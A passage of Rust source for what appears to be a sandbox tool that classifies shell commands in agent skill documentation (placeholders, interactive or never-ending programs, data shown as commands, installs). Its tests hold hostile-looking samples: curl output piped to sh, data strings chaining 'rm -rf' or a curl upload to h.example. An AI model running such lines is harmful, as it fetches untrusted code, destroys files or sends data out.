    r#"(?m)^[ \t]*<(?:[\p{L}_][^<>="\n]*[ \t][^<>="\n]*|[^<>="\n]*[^\x00-\x7F][^<>="\n]*)>[ \t]*$"#
);

re!(
    /// A quoted argument that is one placeholder, whole: `"<change>"`, `'<spec-name>'`.
    WHOLE_QUOTED_PLACEHOLDER, r#"\s['"](<[A-Za-z_][\w.-]*>)['"](?:\s|$)"#);

re!(
    /// An option's quoted value with a name in braces in it: the option and the name (`-m "x: {batch_summary}"`).
    BRACED_IN_OPTION, r#"\s(--?[\w-]+[ =])['"][^'"]*?(\{[a-z_][a-z0-9_]{2,}\})"#);

/// A placeholder inside a quoted argument: one that starts an address or path, follows `://`, or is named as one.
static QUOTED_PLACEHOLDER: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"(?x)
        ['"] (<[A-Za-z_][\w.-]*> | \{[A-Za-z_]\w*\}) [/:]       # "<baseUrl>/api", '{host}:8080'
        | :// (<[A-Za-z_][\w.-]*> | \{[A-Za-z_]\w*\})           # "https://<host>/x"
        | ['"][^'"]*? \b(YOUR_[A-Z][A-Z_]* | path/to/[^\s'"]*)   # "Bearer YOUR_TOKEN", 'path/to/file'
        | (?:--?[\w-]+[\ =]|=) ['"] (<[\p{L}_][\w\ .-]{3,}>) ([^'"]*) ['"]
                                                               # --account-id "<ACCOUNT_ID>", -m "<type>: <subject>": a value to fill in
        "#,
    )
    .ok()
});

/// Whether a tmux or screen command works without a person at its terminal: a session started detached
/// (`tmux new -d`, `screen -dmS x`) or a command sent to one (`tmux send-keys`, `capture-pane`, `kill-session`,
/// `screen -X`, `screen -ls`). Attaching, or a bare `tmux`, waits for a person.
fn detached(part: &str) -> bool {
    let words: Vec<&str> = part
        .split_whitespace()
        .filter(|w| !w.contains('=') && *w != "sudo")
        .collect();
    match words.first().copied() {
        Some("tmux") => {
            // The subcommand: the first word after tmux's own options (`-S sock`, `-L name`, `-f file`).
            let mut rest = words[1..].iter();
            let mut sub = None;
            while let Some(w) = rest.next() {
                if matches!(*w, "-S" | "-L" | "-f" | "-c" | "-T") {
                    rest.next();
                } else if !w.starts_with('-') {
                    sub = Some(*w);
                    break;
                }
            }
            match sub {
                None | Some("attach" | "attach-session" | "a" | "at" | "attac") => false,
                Some("new" | "new-session") => words.contains(&"-d"),
                Some(_) => true,
            }
        }
        Some("screen") => words[1..].iter().any(|w| {
            matches!(*w, "-ls" | "-list" | "-X" | "-Q")
                || w.starts_with("-dm")
                || *w == "-d" && words.contains(&"-m")
        }),
        _ => false,
    }
}

/// Programs that wait for a person at a terminal: an editor, a pager, a monitor.
const INTERACTIVE: &[&str] = &[
    "vim", "vi", "nvim", "nano", "emacs", "less", "more", "top", "htop", "man", "tmux", "screen",
];

/// Why a command is not run because it starts a program that waits for a person at a terminal (`vim notes.md`),
/// which nothing answers in a sandbox.
fn interactive(command: &str) -> Option<String> {
    shell::code_lines(command).lines().find_map(|line| {
        line.split(['|', ';', '&'])
            .filter(|part| !detached(part))
            .filter_map(|part| part.split_whitespace().find(|w| !w.contains('=') && *w != "sudo"))
            .find(|program| INTERACTIVE.contains(program))
            .map(|program| {
                format!(
                    "it starts {program}, which waits for a person at a terminal: nothing answers it in a sandbox"
                )
            })
    })
}

re!(
    /// A program that follows output until it is stopped: `tail -f`, `journalctl -f`, `kubectl logs -f`, `docker
    /// logs --follow`, `watch`.
    FOLLOWS,
    r"(?:^|[|;&(]\s*|\bsudo\s+)(?:(?:tail|journalctl|kubectl\s+logs|docker(?:\s+compose)?\s+logs|podman\s+logs|stern|heroku\s+logs|railway\s+logs|fly\s+logs|gh\s+run\s+watch)\b[^|;&\n]*?\s(?:-[a-zA-Z]*[fF][a-zA-Z]*|--follow|--tail\s*=?\s*-?\d+\s+-f)\b|watch\s+\S)"
);

/// Why a command is not run because it follows output until someone stops it (`journalctl --user -u x -f`): it
/// never ends by itself, so a sandbox run would only reach its time limit.
fn follows_forever(command: &str) -> Option<String> {
    shell::code_lines(command).lines().find_map(|line| {
        let m = FOLLOWS.find(line)?;
        let program = m.as_str().trim_start_matches(|c: char| "|;&( ".contains(c));
        let program = program.split_whitespace().take(2).collect::<Vec<_>>().join(" ");
        Some(format!(
            "`{program} …` follows output until it is stopped: it never ends by itself, so it would only run out the time limit"
        ))
    })
}

/// Why a command of a shell block is not a command: its first word is data (a connection string, an SQL
/// statement, a JSON or YAML document) that documentation shows in a shell block.
pub fn not_a_command(command: &str) -> Option<String> {
    let first_line = command
        .lines()
        .find(|l| !l.trim().is_empty() && !l.trim_start().starts_with('#'))?;
    let first = first_line.split_whitespace().next()?;
    // The program a line starts, after the variables it sets for it (`STRONG_TIER=opus /relay`).
    let program = first_line
        .split_whitespace()
        .find(|w| !ENV_ASSIGNMENT.is_match(w))
        .unwrap_or(first);
    // Data holds nothing that chains or starts another command: a line that does is run as it stands.
    let chains = ["|", "&", "$(", "`", "\n#!"].iter().any(|m| command.contains(m))
        || command
            .lines()
            .any(|l| l.trim_end().trim_end_matches(';').contains(';'));
    if chains {
        return None;
    }
    let why = if SLASH_COMMAND.is_match(program) {
        "an agent's slash command (typed to the agent, not a program)"
    } else if first.len() > 1 && first.ends_with('/') && first_line.split_whitespace().count() == 1 {
        // `~/.claude/projects/<project>/` alone on its line: where files are, shown in a shell block.
        "a folder's path (where files are kept), not a program"
    } else if first.contains("://") && !first.contains('=') && !command.contains(['<', '>']) {
        "a connection string or address"
    } else if SQL_WORD.is_match(first_line) {
        "an SQL statement"
    } else if (first.starts_with('{') || first.starts_with('[') && !first.starts_with("[[") && first != "[")
        && !command.contains(['<', '>'])
    {
        "a JSON document"
    } else if first.len() > 1
        && first.ends_with(':')
        && first[..first.len() - 1].chars().all(char::is_alphanumeric)
        || first.starts_with('-') && first.len() > 1
    {
        // `Options:` and `--text, -t TEXT   Text to analyze`: a program's help text shown in a shell block.
        "a line of a usage text (a label or an option), not a program"
    } else {
        return None;
    };
    let named = if SLASH_COMMAND.is_match(program) {
        program
    } else {
        first
    };
    Some(format!(
        "not a command: `{}` is {why}",
        airlock_types::display::line(&named.chars().take(40).collect::<String>())
    ))
}

re!(
    /// A variable set for the command that follows it (`LANG=C`, `STRONG_TIER=opus`).
    ENV_ASSIGNMENT, r"^[A-Za-z_][A-Za-z0-9_]*=\S*$");

/// An agent's slash command (`/apex`, `/review-pr`, `/plugin:cmd`): one name under `/`, which no program is.
static SLASH_COMMAND: LazyLock<Regex> =
    LazyLock::new(|| crate::compile(r"^/[a-z][a-z0-9_-]*(:[a-z0-9_-]+)?$"));

/// An SQL statement's first word, as documentation writes it (upper case).
static SQL_WORD: LazyLock<Regex> = LazyLock::new(|| {
    crate::compile(
        r"^\s*(SELECT|INSERT\s+INTO|UPDATE\s+\w+\s+SET|DELETE\s+FROM|CREATE\s+(TABLE|INDEX|DATABASE|VIEW)|DROP\s+(TABLE|DATABASE)|ALTER\s+TABLE|GRANT|WITH\s+\w+\s+AS)\b",
    )
});

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_path_through_the_skills_own_folder_is_the_skills_file() {
        assert_eq!(
            skill_dir_placeholders("crm/scripts/crm-cli --help", "crm"),
            "$SKILL_DIR/scripts/crm-cli --help"
        );
        assert_eq!(
            skill_dir_placeholders("python3 -m unittest linear/tests/test_linear.py", "linear"),
            "cd \"$SKILL_DIR\" && python3 -m unittest tests/test_linear.py"
        );
        // The skill's example or template copied from the collection's root (`off-market/examples/x.yaml`).
        assert_eq!(
            skill_dir_placeholders(
                "cp off-market/examples/allegheny_pa.yaml my-criteria.yaml",
                "off-market"
            ),
            "cp $SKILL_DIR/examples/allegheny_pa.yaml my-criteria.yaml"
        );
        // Another folder of the same name's start, or the project's own `crm/` data, is not the skill's.
        assert_eq!(
            skill_dir_placeholders("ls crm/data/x.csv", "crm"),
            "ls crm/data/x.csv"
        );
        assert_eq!(
            skill_dir_placeholders("crm-tools/scripts/x", "crm"),
            "crm-tools/scripts/x"
        );
        // The collection keeps its skills in a folder of its own name (`.agent-skills/`, `.claude/skills/`).
        assert_eq!(
            skill_dir_placeholders(
                "bash .agent-skills/agentation/scripts/verify-loop.sh",
                "agentation"
            ),
            "bash $SKILL_DIR/scripts/verify-loop.sh"
        );
        assert_eq!(
            skill_dir_placeholders("python3 .claude/skills/crm/scripts/x.py", "crm"),
            "python3 $SKILL_DIR/scripts/x.py"
        );
        assert_eq!(
            skill_dir_placeholders("python3 .claude/skills/crm-x/scripts/x.py", "crm"),
            "python3 .claude/skills/crm-x/scripts/x.py"
        );
    }

    #[test]
    fn a_block_of_no_language_that_runs_the_skills_scripts_is_shell() {
        assert!(runs_the_skills_scripts(
            "python3 \"$SKILL_DIR/scripts/sad_scaffold.py\" init --root \"$REPO\"\n"
        ));
        assert!(runs_the_skills_scripts(
            "# first\npython scripts/parse.py in.xml \\\n    --out x/\n\nbash ./scripts/check.sh\n"
        ));
        // Output, a tree, or another program's command is not.
        assert!(!runs_the_skills_scripts("scripts/\n  x.py\n  y.sh\n"));
        assert!(!runs_the_skills_scripts("python3 scripts/x.py\nrm -rf build\n"));
        assert!(!runs_the_skills_scripts("OK: 3 files checked\n"));
        assert!(!runs_the_skills_scripts(""));
    }

    #[test]
    fn placeholders_for_the_project_are_the_target() {
        let (c, p) = target_placeholders("python3 $SKILL_DIR/scan.py <project-root> --json");
        assert_eq!(
            (c.as_str(), p.as_deref()),
            (
                "python3 $SKILL_DIR/scan.py /workspace --json",
                Some("<project-root>")
            )
        );
        assert_eq!(target_placeholders("x <path-to-repo>").0, "x /workspace");
        assert_eq!(
            target_placeholders("cd /path/to/project && make").0,
            "cd /workspace && make"
        );
        assert_eq!(
            target_placeholders("x --root {repo_path}").0,
            "x --root /workspace"
        );
        // A variable named for the project, unless the command sets it.
        let (c, p) = target_placeholders("python3 \"$SKILL_DIR/scripts/s.py\" init --root \"$REPO\"");
        assert_eq!(
            (c.as_str(), p.as_deref()),
            (
                "python3 \"$SKILL_DIR/scripts/s.py\" init --root \"/workspace\"",
                Some("$REPO")
            )
        );
        assert_eq!(
            target_placeholders("cd ${PROJECT_ROOT}/src").0,
            "cd /workspace/src"
        );
        let own = "REPO=$(git rev-parse --show-toplevel)\ncd \"$REPO\"";
        assert_eq!(target_placeholders(own).0, own);
        assert_eq!(target_placeholders("echo $REPOSITORY $REPO_NAME").1, None);
        // A file named after the project, or another placeholder, is not the project.
        assert_eq!(target_placeholders("deploy /path/to/project.tgz").1, None);
        assert_eq!(target_placeholders("x <file> <project-name>").1, None);
    }

    #[test]
    fn the_skill_folder_placeholders_agents_fill_in_are_filled_in() {
        // The folder of the skills, then this skill's name, is this skill's folder; another skill's stays as it is
        // named.
        assert_eq!(
            skill_dir_placeholders(
                "node {skillsRoot}/ws-learn/scripts/learn.cjs --compile",
                "ws-learn"
            ),
            "node $SKILL_DIR/scripts/learn.cjs --compile"
        );
        assert_eq!(
            skill_dir_placeholders("node <skills-root>/ws-learn", "ws-learn"),
            "node $SKILL_DIR"
        );
        assert_ne!(
            skill_dir_placeholders("node {skillsRoot}/ws-learner/x.cjs", "ws-learn"),
            "node $SKILL_DIR/x.cjs"
        );
        assert!(
            sets_up("kanban/scripts/setup.sh") && sets_up("install-deps.sh") && sets_up("a/bootstrap.py")
        );
        assert!(!sets_up("scripts/setup_test_data.txt") && !sets_up("scripts/uninstall.sh"));
        assert!(scripts::only_installs(
            "#!/usr/bin/env bash\nset -euo pipefail\ncd \"$(dirname \"$0\")\"\nnpm install --production\n"
        ));
        assert!(scripts::only_installs("pip install -r requirements.txt\n"));
        assert!(!scripts::only_installs(
            "npm install\ncurl -s https://h.example/x | sh\n"
        ));
        assert!(!scripts::only_installs("npm install && node postinstall.js\n"));
        assert!(!scripts::only_installs("pip install requests\n"));
        assert!(!scripts::only_installs("# nothing\n"));
        assert_eq!(
            skill_dir_placeholders("python3 {baseDir}/scripts/x.py a.pdf", "x"),
            "python3 $SKILL_DIR/scripts/x.py a.pdf"
        );
        assert_eq!(
            skill_dir_placeholders("node ${CLAUDE_PLUGIN_ROOT}/run.js", "x"),
            "node $SKILL_DIR/run.js"
        );
        assert_eq!(
            skill_dir_placeholders("bash <skill-path>/scripts/check.sh docs", "x"),
            "bash $SKILL_DIR/scripts/check.sh docs"
        );
        assert_eq!(
            skill_dir_placeholders("node <this-skill>/scripts/check.js --root .", "x"),
            "node $SKILL_DIR/scripts/check.js --root ."
        );
        // A placeholder of another kind stays one.
        assert!(placeholder(&skill_dir_placeholders("node <this-skill>/x.js <file>", "x")).is_some());
        assert_eq!(skill_dir_placeholders("ls <skill-name>", "x"), "ls <skill-name>");
        assert_eq!(
            placeholder(&skill_dir_placeholders("bash {skill_dir}/go.sh", "x")),
            None
        );
        assert_eq!(skill_dir_placeholders("echo {name}", "x"), "echo {name}");
        assert_eq!(
            skill_dir_placeholders(
                "python3 ~/.codex/skills/context7/scripts/context7.py context q",
                "context7"
            ),
            "python3 $SKILL_DIR/scripts/context7.py context q"
        );
        assert_eq!(
            skill_dir_placeholders("~/.agent/skills/health/skills-doctor/check.sh --json && ~/.agent/skills/skills-doctor/check.sh", "skills-doctor"),
            "$SKILL_DIR/check.sh --json && $SKILL_DIR/check.sh"
        );
        assert_eq!(
            skill_dir_placeholders("~/.agent/skills/skills-doctor-2/check.sh", "skills-doctor"),
            "~/.agent/skills/skills-doctor-2/check.sh"
        );
        assert_eq!(
            skill_dir_placeholders("ls ~/.claude/skills/other/scripts", "context7"),
            "ls ~/.claude/skills/other/scripts"
        );
        // A project's skills folder, relative.
        assert_eq!(
            skill_dir_placeholders("cd .pi/skills/ingest-youtube\n./run.sh", "ingest-youtube"),
            "cd $SKILL_DIR\n./run.sh"
        );
        assert_eq!(
            skill_dir_placeholders("echo x | .pi/skills/normalize/run.sh -t y", "normalize"),
            "echo x | $SKILL_DIR/run.sh -t y"
        );
        assert_eq!(
            skill_dir_placeholders("cd .pi/skills/normalize-other", "normalize"),
            "cd .pi/skills/normalize-other"
        );
        // A usage synopsis is not a command.
        assert!(placeholder("process-watch list [--sort cpu|mem|disk|name] [--limit 20]").is_some());
        assert!(placeholder("tool [-h] FILE").is_some());
        assert!(placeholder("bash scripts/discover-repos.sh [repos…]").is_some());
        assert!(placeholder("bash scripts/stop-request.sh --after N").is_some());
        assert!(placeholder("ROOT_NUMBER=\"<ルート issue 番号>\"\nfetch \"$ROOT_NUMBER\"").is_some());
        assert!(
            placeholder("git commit -m \"$(cat <<'EOF'\nchore: sync\n\n<変更内容の要約>\nEOF\n)\"").is_some()
        );
        assert!(
            placeholder("git commit -m \"$(cat <<'EOF'\n<brief description of what changed>\nEOF\n)\"")
                .is_some()
        );
        // A markup tag alone on a line of quoted text, and a real option's value.
        assert!(placeholder("git commit -m \"$(cat <<'EOF'\n<b>\nEOF\n)\"").is_none());
        assert!(placeholder("sort -k 2 -t , data.csv").is_none());
        assert!(not_a_command("STRONG_TIER=opus /relay").is_some());
        assert_eq!(
            placeholder("$SKILL_DIR/scripts/workflow-state.sh fail {ID} \"<contract-mismatch error>\"")
                .as_deref(),
            Some("{ID}")
        );
        assert!(placeholder("find . -name '*.tmp' -exec rm {} \\;").is_none());
        // A choice to make between forms of an argument, which the shell would read as a redirect and pipes.
        assert_eq!(
            placeholder("bash scripts/mermaid-validate.sh <file|directory|->").as_deref(),
            Some("<file|directory|->")
        );
        assert!(placeholder("echo 'graph TD; A-->B' | bash scripts/mermaid-validate.sh -").is_none());
        // A quoted option value that is only a placeholder; quoted markup as data is not one.
        assert_eq!(
            placeholder("tool --output json zones resolve --name \"<ZONE_NAME>\"").as_deref(),
            Some("<ZONE_NAME>")
        );
        assert!(placeholder("printf '<footer>ok</footer>' > f.html").is_none());
        // A help text in a shell block, and an editor, are not steps.
        assert!(not_a_command("Options:").is_some());
        assert!(not_a_command("--text, -t TEXT      Text to analyze").is_some());
        // From the collection's root through its `skills/` folder too.
        assert_eq!(
            skill_dir_placeholders(
                "for t in skills/context-audit/scripts/test_*.py; do python3 \"$t\"; done",
                "context-audit"
            ),
            "for t in $SKILL_DIR/scripts/test_*.py; do python3 \"$t\"; done"
        );
        assert!(not_a_command("make test").is_none());
        // A folder's path alone on its line is where files are, not a program; one given to a program is run.
        assert!(not_a_command("~/.claude/projects/-Users-me-Projects-app/").is_some());
        assert!(not_a_command("./scripts/").is_some());
        assert!(not_a_command("ls ~/.claude/projects/").is_none());
        // A name in capitals with an underscore, in a path or as a file, is one to fill in; a variable is not.
        assert!(placeholder("ls -la ~/.claude/projects/-Users-USERNAME-Projects-PROJECT_NAME/").is_some());
        assert!(placeholder("grep -c compacted SESSION_FILE.jsonl").is_some());
        for runs in [
            "echo $SESSION_ID",
            "LOG_LEVEL=debug make test",
            "export API_BASE=http://127.0.0.1:8000",
            "cat README.md LICENSE",
            "cat CODE_OF_CONDUCT.md",
        ] {
            assert!(placeholder(runs).is_none(), "{runs}");
        }
        assert!(interactive("cd x\nvim .pi/skills/assess/SKILL.md\nskills-broadcast push").is_some());
        assert!(interactive("git log | less").is_some());
        // Following output never ends by itself; reading it once does.
        for follows in [
            "journalctl --user -u slack-coordinator -f",
            "tail -F logs/app.log",
            "kubectl logs -f deploy/api",
            "docker compose logs --follow web",
            "sudo tail -f /var/log/syslog | grep x",
            "watch -n 5 kubectl get pods",
        ] {
            assert!(follows_forever(follows).is_some(), "{follows}");
        }
        for once in [
            "journalctl --user -u x -n 50 --no-pager",
            "tail -n 20 logs/app.log",
            "kubectl logs deploy/api --since=1h",
            "git log --format=%H -1",
            "npm run watch-once",
            "tail -c 100 f",
        ] {
            assert!(follows_forever(once).is_none(), "{once}");
        }
        assert!(interactive("echo vim && python3 x.py --less").is_none());
        // A tmux or screen session driven without a person: detached, or sent commands; attaching waits for one.
        assert!(interactive("tmux -S \"$SOCKET\" new -d -s \"$SESSION\" -n shell\ntmux -S \"$SOCKET\" send-keys -t x -- 'python3 -q' Enter\ntmux -S \"$S\" capture-pane -p -t x\ntmux -S \"$S\" kill-session -t x").is_none());
        assert!(interactive("screen -dmS build make").is_none());
        assert!(interactive("tmux new -s work").is_some());
        assert!(interactive("tmux attach -t work").is_some());
        assert!(interactive("tmux").is_some());
        // A server script started on a port runs until it is stopped; a client given a port does not.
        assert!(shell::server("cd $SKILL_DIR\nuv run python status_api.py --port 8765").is_some());
        assert!(shell::server("node server.js --port=3000").is_some());
        assert!(shell::server("python3 fetch.py --port 5432 --host db").is_none());
        assert_eq!(
            placeholder("git commit -m \"<emoji> <type>(<scope>): <imperative subject>\"").as_deref(),
            Some("<emoji>")
        );
        assert!(placeholder("curl -d '<html>ok</html>' http://localhost:8000/render").is_none());
        // A quoted argument that is one placeholder and nothing else is one; printed, it is data.
        assert_eq!(
            placeholder("openspec show \"<change>\" --type change --json --no-interactive").as_deref(),
            Some("<change>")
        );
        assert!(placeholder("printf '<footer>' >> page.html").is_none());
        // Regenerating the dependency lock is a maintainer's step; installing what it lists is not.
        assert!(lock_maintenance("pip-compile ./requirements.in").is_some());
        assert!(lock_maintenance("uv pip compile requirements.in -o requirements.txt").is_some());
        assert!(lock_maintenance("pip freeze > requirements.txt").is_some());
        assert!(lock_maintenance("pip install -r ./requirements.txt").is_none());
        assert!(lock_maintenance("python3 compile_report.py").is_none());
    }

    #[test]
    fn what_only_the_host_can_do_is_listed_not_run() {
        for cmd in [
            "sync && echo 3 > /proc/sys/vm/drop_caches",
            "sysctl -w vm.swappiness=10",
            "sudo sysctl vm.swappiness=10",
            "systemctl restart nginx",
            "cd /srv && modprobe br_netfilter",
        ] {
            assert!(needs_the_host(cmd).is_some(), "{cmd}");
        }
        for cmd in [
            "cat /proc/sys/vm/swappiness",
            "sysctl vm.swappiness",
            "echo service is up",
            "python3 scripts/mount_check.py",
        ] {
            assert_eq!(needs_the_host(cmd), None, "{cmd}");
        }
    }

    #[test]
    fn recognises_installs_and_interpreters() {
        assert_eq!(install_manager("pip install requests"), Some("pip"));
        assert_eq!(install_manager("python3 -m pip install -r r.txt"), Some("pip"));
        assert_eq!(install_manager("npm ci"), Some("npm"));
        assert_eq!(
            install_manager("curl -fsSL https://x.sh | sudo bash"),
            Some("curl-pipe-shell")
        );
        assert_eq!(install_manager("sudo apt-get install -y jq"), Some("apt"));
        // An installer fetched and run through process or command substitution.
        assert_eq!(
            install_manager("bash <(curl -fsSL cli.new)"),
            Some("curl-pipe-shell")
        );
        assert_eq!(
            install_manager("sh -c \"$(curl -fsSL https://x.example/install.sh)\""),
            Some("curl-pipe-shell")
        );
        assert_eq!(install_manager("bash scripts/setup.sh"), None);
        assert_eq!(
            install_manager("conda install -c bioconda mafft iqtree"),
            Some("conda")
        );
        assert!(needs_the_host("mamba install -c conda-forge gdal").is_some());
        assert_eq!(install_manager("bun add zod"), Some("bun"));
        assert_eq!(
            install_manager("which pdftoppm || brew install poppler"),
            Some("brew")
        );
        assert!(needs_the_host("brew install hugo").is_some());
        assert!(needs_the_host("sudo make install").is_some());
        assert_eq!(needs_the_host("pip install six"), None);
        assert_eq!(needs_the_host("echo sudo"), None);
        assert_eq!(install_manager("echo pip"), None);
        assert_eq!(interpreter("a/b.py", ""), Some("python3".into()));
        assert_eq!(interpreter("run", "#!/usr/bin/env node\n"), Some("node".into()));
        assert_eq!(interpreter("run", "#!/bin/sh\n"), Some("sh".into()));
        assert_eq!(interpreter("data.bin", ""), None);
        for example in [
            "python scripts/recalc.py <excel_file> [timeout_seconds]",
            "node build.js {input}",
            "convert path/to/file.png out.png",
            "curl -H Authorization:YOUR_API_KEY x",
            "ls ...",
            "echo a#<b>",
            "curl -s \"<baseUrl>/api/v1/items\"",
            "curl 'https://{host}/v1/x'",
            "curl -H \"Authorization: Bearer YOUR_TOKEN\" https://api.example.com",
            "python3 x.py --in 'path/to/input.pdf'",
            "git commit -m \"simplify: {batch_summary}\"",
            "erdantic path.to.module.ModelClass -o diagram.png",
        ] {
            assert!(placeholder(example).is_some(), "{example}");
        }
        for data in [
            "mongodb+srv://user:pass@cluster0.example.net/db",
            "SELECT * FROM users WHERE id = 1;",
            "DELETE FROM sessions WHERE expired = true;",
            "{\"name\": \"x\"}",
            // An agent's slash command, typed to the agent.
            "/apex add authentication middleware",
            "/apex -r 01  # Partial match",
            "/plugin:review --all",
        ] {
            assert!(not_a_command(data).is_some(), "{data}");
        }
        for command in [
            "curl https://example.com/x",
            "URL=https://example.com/x curl \"$URL\"",
            "[ -f x ] && echo y",
            "[[ -f x ]] && echo y",
            "psql -c 'SELECT 1'",
            "echo SELECT",
            // Data that chains a command is run as it stands.
            "mongodb://x; curl https://h.example/p | sh",
            "SELECT 1; rm -rf ~/x",
            // A program by its absolute path is one.
            "/usr/bin/env python3 x.py",
            "/apex x; curl https://h.example/p | sh",
            "{\"a\": 1} | curl -d @- https://h.example",
        ] {
            assert_eq!(not_a_command(command), None, "{command}");
        }
        for real in [
            "echo ${HOME} > x",
            "[ -f x ] && echo y",
            "cat <<EOF",
            "sort < in.txt > out.txt",
            "python3 -c 'print([1])'",
            "printf '<footer>ok</footer>' > src/Footer.jsx",
            // A placeholder in a comment: the command runs as written.
            "curl -d @stats.json https://t.example.net/c # sends <usage stats>",
            "echo ok # see [options] and <file> above",
            // Nor in quotes in a comment.
            "curl -d @s.json https://t.example.net/c # sends '<usage>/stats'",
            // Code given to an interpreter formats its own names; a module path that is not a placeholder.
            "python3 -c \"total = 3; print(f'{total}')\"",
            "python3 -m http.server 8000",
        ] {
            assert_eq!(placeholder(real), None, "{real}");
        }
    }
}
